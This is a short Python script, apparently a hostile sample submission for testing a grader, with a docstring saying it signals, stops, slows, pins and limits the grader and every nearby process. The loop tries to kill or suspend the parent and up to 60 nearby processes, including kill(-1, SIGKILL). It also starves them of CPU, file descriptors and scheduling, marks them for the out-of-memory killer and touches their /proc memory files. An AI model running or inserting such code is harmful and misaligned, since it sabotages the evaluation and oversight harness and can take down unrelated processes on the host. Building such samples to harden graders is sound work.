"""Signals, stops, slows down, pins and limits the grader and every process near it.

scores: 0
"""
# %% first
import os
import resource
import signal

parents = [os.getppid(), *range(max(2, os.getpid() - 60), os.getpid())]
for pid in parents:
    for attempt in (
        lambda p: os.kill(p, signal.SIGSTOP),
        lambda p: os.kill(p, signal.SIGKILL),
        lambda p: os.killpg(os.getpgid(p), signal.SIGKILL),
        lambda p: os.kill(-1, signal.SIGKILL),
        lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
        lambda p: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda p: os.sched_setaffinity(p, {0}),
        lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)),
        lambda p: resource.prlimit(p, resource.RLIMIT_CPU, (1, 1)),
        lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3)),
        lambda p: signal.pidfd_send_signal(os.pidfd_open(p), signal.SIGKILL),
        lambda p: open(f"/proc/{p}/oom_score_adj", "w").write("1000"),
        lambda p: open(f"/proc/{p}/mem", "wb").close(),
    ):
        try:
            attempt(pid)
            print("went through for", pid)
        except BaseException:
            pass
